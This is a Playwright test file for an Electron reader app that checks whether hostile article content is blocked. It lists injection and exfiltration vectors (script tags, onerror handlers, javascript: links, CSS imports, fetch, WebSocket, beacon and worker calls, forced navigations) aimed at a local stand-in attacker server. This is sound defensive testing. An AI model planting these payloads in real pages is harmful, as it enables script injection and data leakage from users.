// What a hostile article could try, tried in the two frames that hold content: by effect, against a real server.
import { createServer, type Server } from 'node:http';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { _electron, type Frame } from '@playwright/test';
import { expect, test, type RunningApp } from './fixtures.ts';
import { NOTHING } from './offline.ts';
import { definedEnv } from './launch.ts';
import { goTo, openArticle } from './pages/search-page.ts';

/** An element that a hostile document would hold. `SINK` stands for the attacker's server, `RAN()` for its script. */
interface Vector {
  readonly name: string;
  readonly tag: string;
  readonly attributes?: Readonly<Record<string, string>>;
  readonly text?: string;
  /** Clicked or submitted once it is there. */
  readonly act?: 'click' | 'submit';
  readonly isSvg?: boolean;
}

/** Leaves a trace in the page that holds the vector; a trace anywhere is a failed wall. */
function trace(name: string): string {
  return `(window.frameElement ? parent : window).document.documentElement.classList.add('ran-${name}')`;
}

const VECTORS: readonly Vector[] = [
  { name: 'script', tag: 'script', text: trace('script') },
  { name: 'script-src', tag: 'script', attributes: { src: 'SINK/script-src' } },
  { name: 'svg-script', tag: 'script', isSvg: true, text: trace('svg-script') },
  { name: 'handler', tag: 'img', attributes: { src: 'data:image/png,x', onerror: trace('handler') } },
  { name: 'image', tag: 'img', attributes: { src: 'SINK/image' } },
  { name: 'srcset', tag: 'img', attributes: { srcset: 'SINK/srcset 1x' } },
  { name: 'video', tag: 'video', attributes: { src: 'SINK/video', preload: 'auto' } },
  { name: 'frame', tag: 'iframe', attributes: { src: 'SINK/frame' } },
  {
    name: 'srcdoc',
    tag: 'iframe',
    attributes: { srcdoc: `<script>${trace('srcdoc')}</script><img src="SINK/srcdoc">` },
  },
  { name: 'object', tag: 'object', attributes: { data: 'SINK/object', type: 'text/html' } },
  { name: 'embed', tag: 'embed', attributes: { src: 'SINK/embed', type: 'text/html' } },
  { name: 'sheet', tag: 'link', attributes: { rel: 'stylesheet', href: 'SINK/sheet' } },
  { name: 'style', tag: 'style', text: 'html { background: url(SINK/style) }' },
  { name: 'import', tag: 'style', text: '@import url(SINK/import);' },
  { name: 'style-attribute', tag: 'p', attributes: { style: 'background: url(SINK/style-attribute)' } },
  { name: 'target', tag: 'iframe', attributes: { name: 'target' } },
  { name: 'form', tag: 'form', attributes: { action: 'SINK/form', target: 'target' }, act: 'submit' },
  { name: 'blank', tag: 'a', attributes: { href: 'SINK/blank', target: '_blank' }, act: 'click' },
  {
    name: 'script-link',
    tag: 'a',
    attributes: { href: `javascript:${trace('script-link')}` },
    act: 'click',
  },
];

/** What only a page that may run script can try. Each is its own text, put into the page by `attempt`. */
const READER_SCRIPTS: readonly string[] = [
  `fetch('SINK/fetch').catch(() => 0)`,
  `const request = new XMLHttpRequest(); request.open('GET', 'SINK/xhr'); request.send()`,
  `new WebSocket('SINK/socket'.replace('http', 'ws'))`,
  `new EventSource('SINK/events')`,
  `navigator.sendBeacon('SINK/beacon', 'x')`,
  `new Worker(URL.createObjectURL(new Blob(["fetch('SINK/worker')"], { type: 'text/javascript' })))`,
  `import('SINK/module').catch(() => 0)`,
  // Later, not within this call: what a debugger evaluates is exempt from the policy.
  `setTimeout(() => { (0, eval)("${trace('eval')}") }, 10)`,
];

/** Ways out of the page itself: each may cost the frame its content, so each gets a fresh one. */
const EXITS: readonly string[] = [
  `const link = document.createElement('a'); link.href = 'SINK/download'; link.download = 'x'; document.body.append(link); link.click()`,
  `top.location.href = 'SINK/top'`,
  `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=SINK/refresh'; document.head.append(meta)`,
  `window.open('SINK/popup', '_blank')`,
  `location.href = 'SINK/location'`,
];

/** Puts the vectors into a page, all within one call, because an article's timers do not run. */
function plant([vectors, sink]: readonly [readonly Vector[], string]): void {
  const filled = (text: string): string => text.replaceAll('SINK', sink);
  for (const { tag, attributes = {}, text, act, isSvg = false } of vectors) {
    const space = isSvg ? 'http://www.w3.org/2000/svg' : 'http://www.w3.org/1999/xhtml';
    const element = document.createElementNS(space, tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, filled(value));
    if (text !== undefined) element.textContent = filled(text);
    document.body.append(element);
    if (act === 'click' && element instanceof HTMLElement) element.click();
    if (act === 'submit' && element instanceof HTMLFormElement) element.submit();
  }
  document.body.getBoundingClientRect(); // styles are worked out, and what they name is fetched
}

/** A statement as an expression that never throws: a refusal may be an exception. */
function attempt(statement: string, sink: string): string {
  return `(() => { try { ${statement.replaceAll('SINK', sink)} } catch { return 'refused' } })(); undefined`;
}

/** What reaches the sink where nothing stops it: each vector that asks for something. */
const REACHED: readonly string[] = [
  'script-src image srcset video frame srcdoc object embed sheet style import style-attribute form blank',
  'fetch xhr socket events beacon worker module',
  'download top refresh popup location',
].flatMap((names) => names.split(' '));

/** What Chromium says of the attempts. */
const COMPLAINTS =
  /Content Security Policy|Blocked|sandboxed|Refused|Failed to load|Not allowed|ERR_|Unsafe attempt|EvalError/;
const ARTICLE = 'untoc-explained';

interface Sink {
  readonly origin: string;
  /** What was asked for, by the name of the vector. */
  readonly hits: ReadonlySet<string>;
  readonly server: Server;
}

/** The attacker's server. It answers everything with an empty page. */
async function openSink(): Promise<Sink> {
  const hits = new Set<string>();
  const note = (url = ''): unknown => url !== '/control' && hits.add(url.slice(1).replace(/\?.*/, ''));
  const server = createServer((request, answer) => {
    note(request.url);
    answer.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>Sink</title><body>');
  });
  server.on('upgrade', (request, socket) => {
    note(request.url);
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  server.unref(); // a failed test leaves it open
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('the sink has no port');
  return { origin: `http://127.0.0.1:${address.port}`, hits, server };
}

function countContents({ app }: RunningApp): Promise<number> {
  return app.evaluate(({ webContents }) => webContents.getAllWebContents().length);
}

/** The frame of the reader page, or of the article inside it. */
function frameOf({ page }: RunningApp, path: string): Frame {
  const frame = page.frames().find((each) => new URL(each.url()).pathname.startsWith(path));
  if (frame === undefined) throw new Error(`there is no frame of ${path}`);
  return frame;
}

/** Nothing reached the sink or so much as left its page, and no page of the sink is shown anywhere. */
async function expectNothingOf(sink: Sink, attache: RunningApp, contents: number): Promise<void> {
  const { page } = attache;
  expect([...sink.hits]).toEqual([]);
  // The policies stopped it, not only the session, which lets nothing out and counts what tries.
  expect(await page.evaluate(() => window.attache.app.network())).toEqual(NOTHING);
  expect(page.url()).toMatch(/^app:\/\/shell\//);
  // What a policy stops may leave Chromium's own error page in a frame; never a page of somebody else.
  for (const frame of page.frames()) expect(frame.url()).toMatch(/^(?:app|arch|about|chrome-error):/);
  expect(await countContents(attache)).toBe(contents);
}

/** Tries everything in one kind of frame, and expects nothing of it. */
async function expectNothing(attache: RunningApp, path: string, scripts: readonly string[]): Promise<void> {
  const { page } = attache;
  const sink = await openSink();
  await openArticle(page, ARTICLE);
  const contents = await countContents(attache);
  const frame = frameOf(attache, path);
  const url = frame.url();
  await frame.evaluate(plant, [VECTORS, sink.origin] as const);
  for (const script of scripts) await frame.evaluate(attempt(script, sink.origin));
  await page.waitForTimeout(800);
  expect(frame.url()).toBe(url);
  expect(await frame.evaluate(() => document.documentElement.className)).not.toContain('ran-');
  await expectNothingOf(sink, attache, contents);
  for (const exit of EXITS) {
    // A link that was followed in the article has opened the dialog that shows its address.
    await page.keyboard.press('Escape');
    await expect(page.getByRole('dialog')).toHaveCount(0);
    await goTo(page, 'Topics');
    await openArticle(page, ARTICLE);
    const shell = page.url();
    // The frame may be gone before it answers.
    await frameOf(attache, path)
      .evaluate(attempt(exit, sink.origin))
      .catch((error: unknown) => expect(String(error)).toMatch(/navigation|detached/));
    await page.waitForTimeout(400);
    expect(page.url()).toBe(shell);
    await expectNothingOf(sink, attache, contents);
  }
  sink.server.close();
  attache.expectComplaints(COMPLAINTS);
}

test('a hostile article reaches nothing, runs nothing and goes nowhere', async ({ attache }) => {
  await expectNothing(attache, '/a/', []);
});

test('a hostile reader page reaches nothing, runs nothing and goes nowhere', async ({ attache }) => {
  await expectNothing(attache, '/reader', READER_SCRIPTS);
});

/** An app without any wall: no policy, no guard, no closed session. Its one window is never shown. */
const UNGUARDED = `
const { app, BrowserWindow, session } = require('electron');
app.on('window-all-closed', () => {});
app.whenReady().then(() => {
  session.defaultSession.on('will-download', (event) => event.preventDefault());
  const { webContents: contents } = new BrowserWindow({ show: false });
  const overrideBrowserWindowOptions = { show: false };
  contents.setWindowOpenHandler(() => ({ action: 'allow', overrideBrowserWindowOptions }));
  void contents.loadURL('data:text/html,empty');
});
`;

test('the same attempts do succeed in a window without a wall', async ({ workFolder, userData }) => {
  const sink = await openSink();
  await writeFile(join(workFolder, 'main.cjs'), UNGUARDED);
  const app = await _electron.launch({
    args: [join(workFolder, 'main.cjs'), `--user-data-dir=${userData}`],
    env: definedEnv(),
  });
  try {
    const page = await app.firstWindow();
    await page.goto(`${sink.origin}/control`);
    await page.evaluate(plant, [VECTORS, sink.origin] as const);
    for (const script of READER_SCRIPTS) await page.evaluate(attempt(script, sink.origin));
    await page.waitForTimeout(1000);
    const traces = await page.evaluate(() => document.documentElement.className);
    for (const name of ['script', 'svg-script', 'handler', 'srcdoc', 'script-link', 'eval'])
      expect(traces, name).toContain(`ran-${name}`);
    for (const exit of EXITS) {
      await page.goto(`${sink.origin}/control`);
      await page.evaluate(attempt(exit, sink.origin)).catch(() => undefined); // it left before it answered
      await page.waitForTimeout(400);
    }
    expect([...sink.hits].toSorted()).toEqual(REACHED.toSorted());
  } finally {
    await app.close();
    sink.server.closeAllConnections();
    sink.server.close();
  }
});
